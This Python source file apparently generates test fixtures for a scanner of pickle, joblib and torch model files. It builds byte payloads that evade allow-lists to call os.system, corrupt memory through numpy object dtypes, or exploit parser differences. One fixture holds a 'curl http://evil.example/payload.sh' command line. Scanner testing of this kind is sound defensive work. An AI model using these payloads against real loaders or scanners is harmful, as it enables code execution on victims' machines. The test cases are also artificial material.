"""A, B, D: allowed names in uses that are none of a pickler, and what one of
Python's readers takes where another ends.

Each of these runs its payload, or has foreign memory taken for objects, with
joblib, pickle.py or torch; those about joblib and tar were loaded once to show
it, with a payload that makes a folder.
"""

from asm import *
from calls import case

FIRE = sg("os", "system") + ARG + b"R"
EVIL = legacy(obj=EVIL2)
LOAD = sg("torch.storage", "_load_from_bytes") + b"q\x00"
OBJECT = 0x3F  # the flags of a dtype of objects


def slots(**entries):
    return b"}(" + b"".join(u(k) + v for k, v in entries.items()) + b"u"


def numbers(raw):
    """bytes([...])"""
    return sg("builtins", "bytes") + b"](" + b"".join(b"K" + bytes([c]) for c in raw) + b"e\x85R"


def dtype(code, order="|", base=b"N", fields=b"N", size=-1, flags=None):
    """A dtype, and the state that sets its flags."""
    head = sg("numpy", "dtype") + u(code) + b"\x89\x88\x87R"
    names = u("a") + b"\x85" if fields != b"N" else b"N"
    if flags is None:
        return head
    return head + b"(K\x03" + u(order) + base + names + fields + integer(size) + integer(1 if size > 0 else -1) + integer(flags) + b"tb"


def field(of):
    return b"}" + u("a") + of + b"K\x00\x86s"


O8 = dtype("O8", flags=OBJECT)
STRUCT = dtype("V8", fields=field(O8), size=8, flags=OBJECT)
WRAPPER = sg("joblib.numpy_pickle", "NumpyArrayWrapper")


def described(of, count, **more):
    entries = {"subclass": sg("numpy", "ndarray"), "shape": integer(count) + b"\x85", "order": u("C"), "dtype": of, "allow_mmap": b"\x88", "numpy_array_alignment_bytes": b"N"}
    return slots(**{**entries, **more})


def uses():
    def bad(name, technique, finds, data, fires=True):
        return case("A/use-" + name, technique, "dangerous", finds, data, fires)

    rebuild = sg("torch._tensor", "_rebuild_from_type_v2")
    handed = rebuild + b"(h\x00" + sg("torch", "Tensor") + numbers(EVIL) + b"\x85NtR"
    yield bad("load-handed.pkl", "_load_from_bytes, once called as it should be, then handed to what calls it", "name", p4raw(b"]" + LOAD + binbytes(legacy()) + b"\x85Ra" + handed + b"a"))
    yield bad("load-numbers.pkl", "_load_from_bytes of bytes that are made of numbers", "name", p4raw(LOAD + numbers(EVIL) + b"\x85R"))
    yield bad("load-bytearray.pkl", "the same by way of bytearray", "name", p4raw(LOAD + numbers(EVIL).replace(u("bytes"), u("bytearray")) + b"\x85R"))
    yield bad("load-in-list.pkl", "_load_from_bytes called, and kept", "name", p4raw(b"]" + LOAD + binbytes(legacy()) + b"\x85Rah\x00a"), False)
    yield bad("rebuild-other.pkl", "_rebuild_from_type_v2 calls what rebuilds no tensor", "use", p4raw(
        rebuild + b"(" + sg("_codecs", "encode") + sg("torch", "Tensor") + u("a") + u("latin1") + b"\x86NtR"), False)
    yield bad("rebuild-state.pkl", "a state whose entries become attributes", "use", p4raw(
        sg("torch._utils", "_rebuild_parameter_with_state") + b"(N\x89N" + slots(__class__=sg("torch", "Tensor")) + b"tR"), False)
    same = sg("torch.jit._pickle", "build_intlist") + sg("torch.serialization", "_get_layout") + b"\x85R"
    yield bad("same-function.pkl", "a function returned by one that returns its argument, then its attributes set", "use", p4raw(same + b"N" + slots(cache=b"}") + b"\x86b"), False)
    yield bad("same-scalar.pkl", "a scalar of objects, which returns what it is handed", "memory", p4raw(sg("numpy.core.multiarray", "scalar") + O8 + sg("torch.serialization", "_get_layout") + b"\x86R"), False)
    for name, of in (("flags", dtype("O8", flags=0)), ("fields", dtype("V8", fields=field(O8), size=8, flags=0)), ("subarray", dtype("V8", base=O8 + b"K\x01\x85\x86", size=8, flags=0))):
        eight = b"C\x08" + struct.pack("<Q", 0x4141414141414140)
        one = b"K\x01\x85"
        technique = "objects made of bytes: a dtype whose flags deny that it has some, in "
        yield bad("memory-%s-state.pkl" % name, technique + "an array", "memory", p4raw(
            sg("numpy.core.multiarray", "_reconstruct") + sg("numpy", "ndarray") + b"K\x00\x85C\x01b\x87R(K\x01" + one + of + b"\x89" + eight + b"tb"), False)
        yield bad("memory-%s-scalar.pkl" % name, technique + "a scalar", "memory", p4raw(sg("numpy.core.multiarray", "scalar") + of + eight + b"\x86R"), False)
        yield bad("memory-%s-buffer.pkl" % name, technique + "a buffer", "memory", p4raw(sg("numpy.core.numeric", "_frombuffer") + b"(" + eight + of + one + u("C") + b"tR"), False)
    # What joblib takes for a pickle, or for an array, and others do not.
    hidden = b"(0" + EVIL0
    hidden = b"N0" * (-len(hidden) % 8 // 2) + hidden if len(hidden) % 2 == 0 else b"K\x010" + hidden
    hidden = b"N0" * (-len(hidden) % 8 // 2) + hidden
    assert len(hidden) % 8 == 0
    nested = dtype("V8", fields=field(STRUCT), size=8, flags=OBJECT)
    for name, of in (("flags", dtype("f8", "<", flags=OBJECT)), ("fields", STRUCT), ("fields-twice", nested), ("subarray", dtype("V8", base=O8 + b"K\x01\x85\x86", size=8, flags=OBJECT))):
        yield bad("joblib-%s.pkl" % name, "an array of numbers for who does not look at the whole dtype, a pickle for joblib", "name", b"\x80\x04]" + WRAPPER + b")\x81" + described(of, len(hidden) // 8) + b"b" + hidden + b"a.")
    f8 = dtype("f8", "<", flags=0)
    after = b"0" + FIRE + b"0N"
    text = b"X" + struct.pack("<I", 84 + 8 + len(after)) + b" " * 84 + bytes(8) + after  # joblib: 88 bytes of padding, a number, opcodes
    aligned = described(f8, 1, numpy_array_alignment_bytes=b"K\x10")
    for name, make in (("reconstructor", sg("copyreg", "_reconstructor") + WRAPPER + sg("builtins", "object") + b"N\x87R"),
                       ("same", sg("torch.jit._pickle", "restore_type_tag") + WRAPPER + b")\x81" + u("x") + b"\x86R"),
                       ("rebuild", rebuild + b"(" + sg("torch.jit._pickle", "build_intlist") + WRAPPER + WRAPPER + b")\x81\x85}tR")):
        yield bad("joblib-%s.pkl" % name, "the description of an array, made as joblib does not make it: others read its bytes as a string", "use", p4raw(make + aligned + b"b" + text))
    yield bad("joblib-slots.pkl", "its description is set as slots", "use", p4raw(WRAPPER + b")\x81N" + aligned + b"\x86b" + text))
    yield bad("joblib-read.pkl", "its method that joblib calls is replaced", "use", p4raw(
        WRAPPER + b")\x81" + described(f8, 0, read=sg("torch.jit._pickle", "build_intlist")) + b"b"), False)
    yield bad("joblib-frame.pkl", "an array within a frame: joblib reads it behind the frame", "name",
              b"\x80\x04" + frame(WRAPPER + b")\x81" + aligned + b"b0" + FIRE + b".") + bytes(9) + b" " * 31)

    def odd(name, technique, data, finds="use"):
        return case("A/use-" + name, technique, "suspicious", finds, data, False)

    ordered = sg("collections", "OrderedDict")
    yield odd("constant.pkl", "a dtype is called", p4raw(sg("torch", "float32") + b")R"))
    yield odd("keywords.pkl", "an allowed class with keyword arguments", p4raw(ordered + b")}" + u("a") + b"K\x01s\x92"))
    yield odd("obj.pkl", "an allowed class by OBJ", p2(b"(" + g("collections", "OrderedDict") + b"o"))
    yield odd("newobj-function.pkl", "an allowed function by NEWOBJ", p4raw(sg("torch.serialization", "_get_layout") + u("torch.strided") + b"\x85\x81"))
    yield odd("class.pkl", "an allowed class as an argument", p4raw(sg("builtins", "list") + sg("torch", "FloatStorage") + b"\x85R"))
    yield odd("state.pkl", "an attribute of an OrderedDict", p4raw(ordered + b")R" + slots(append=u("x")) + b"b"))
    yield odd("state-slots.pkl", "a state of slots for an OrderedDict", p4raw(ordered + b")RN" + slots(x=u("x")) + b"\x86b"))
    yield odd("items.pkl", "items for an OrderedDict", p4raw(ordered + b")R(K\x01e"), "change")
    yield odd("ndarray.pkl", "numpy.ndarray is called", p4raw(sg("numpy", "ndarray") + b"K\x02\x85\x85R"))
    yield odd("dtype-list.pkl", "a dtype of a list", p4raw(sg("numpy", "dtype") + b"](" + u("a") + u("f8") + b"\x86e\x85R"))
    yield odd("bytes-numbers.pkl", "bytes of numbers, harmless", p4raw(numbers(b"weights")))
    yield odd("scalar-type.pkl", "a scalar of no type", p4raw(sg("numpy.core.multiarray", "scalar") + b"NC\x01a\x86R"))


def readers():
    """B: Python has two readers of pickles, and joblib and dill use the one in
    Python, which takes more."""
    def bad(name, technique, data, fires=True):
        return case("B/" + name, technique, "dangerous", "name", data, fires)

    ordered = sg("collections", "OrderedDict")
    yield bad("python-list-arguments.pkl", "a list of arguments", p4raw(ordered + b"]R0" + FIRE))
    yield bad("python-text-arguments.pkl", "a text of arguments", p4raw(sg("builtins", "list") + u("a") + b"R0" + FIRE))
    yield bad("python-new-arguments.pkl", "a list of arguments of NEWOBJ", p4raw(ordered + b"]\x810" + FIRE))
    for name, state in (("zero", b"K\x00"), ("tuple", b")"), ("text", u("")), ("false", b"\x89"), ("pair", b"NN\x86")):
        yield bad("python-build-%s.pkl" % name, "a state that sets nothing, on a number", p4raw(b"K\x01" + state + b"b0" + FIRE))
    yield bad("python-float-underscore.pkl", "a float with an underscore", b"F1_0\n0" + EVIL0)
    yield bad("python-float-blank.pkl", "a float with blanks", b"F 1.5 \n0" + EVIL0)
    yield bad("slice.pkl", "a slice of a list is set", p4raw(b"](K\x01K\x02e" + sg("builtins", "slice") + b"NN\x86R]s0" + FIRE))
    yield case("B/python-memo-large.pkl", "a key of the memo that only pickle.py takes", "not clean", "", b"Vos\np123456789012345678901234567890\n0g123456789012345678901234567890\nVsystem\n\x93Vtrue\n\x85R.", True)
    # A name that is none, so that the whole is taken for a text.
    yield bad("odd-attribute.txt", "an attribute whose name has a blank, in a text", b"cos\npath\n(N(dS'a b'\ncos\nsystem\nstb0cposixpath\na b\n(S'true'\ntR.")
    yield bad("odd-module.txt", "a module whose name has a blank", b"(csys\nmodules\nS'a b'\ncimportlib\nimport_module\n(S'os'\ntRs0ca b\nsystem\n(S'true'\ntR.")
    yield bad("odd-dotted.md", "a dotted name with a blank", b"N0\x80\x04" + sg("collections", "namedtuple") + b"N" + slots(**{"a b": sg("os", "system")}) + b"\x86b0" + sg("collections", "namedtuple.a b") + ARG + b"R.")


def tars():
    """D: what Python takes for a tar of torch 0.1."""
    def bad(name, technique, data):
        return case("D/" + name, technique, "dangerous", "name", data, True)

    def summed(head, form=b"%06o\0 "):
        blank = head[:148] + b" " * 8 + head[156:]
        return blank[:148] + form % sum(blank[:512]) + blank[156:]

    true = torch_tar(storages=p2(b"\x88") + EVIL2)
    yield bad("tar-count-true.pt", "True storages", true)
    yield bad("tar-count-call.pt", "as many storages as a call says", torch_tar(storages=p2(g("builtins", "int") + b"K\x01\x85R") + EVIL2))
    member = tarred(("storages", EVIL2))
    empty = summed(tarred(("x", b""))[:512].replace(b"x", b"\0", 1))
    yield bad("tar-no-name.pt", "a first member without a name", empty + member)
    first = tarred(("sys_info", b""))[:512]
    yield bad("tar-checksum.pt", "a checksum with a sign", summed(first, b"+%05o\0 ") + member)
    yield bad("joblib-zfile.pkl", "the compression of joblib before 0.10", b"ZF" + hex(len(EVIL2)).encode().ljust(19) + zlib.compress(EVIL2))


def hollow():
    """D: the mark of ELF in a header of nothing but zeros, as tests of scanners have it."""
    elf = b"\x7fELF\x02\x01\x01" + bytes(57)
    yield case("D/elf-hollow.llamafile", "the mark of a program that no system runs", "suspicious", "native", elf + b"llamafile\n--threads 4\n" + bytes(256) + b"GGUF", False)
    yield case("D/elf-hollow-command.llamafile", "the same with a command line", "dangerous", "command", elf + b"llamafile\nbash -c curl http://evil.example/payload.sh\n" + bytes(256), False)
    real = elf[:16] + struct.pack("<HH", 2, 62) + elf[20:]
    yield case("D/elf.llamafile", "a program for a processor", "dangerous", "native", real + b"llamafile\n--threads 4\n" + bytes(256) + b"GGUF", False)


def cases():
    for part in (uses, readers, tars, hollow):
        yield from part()
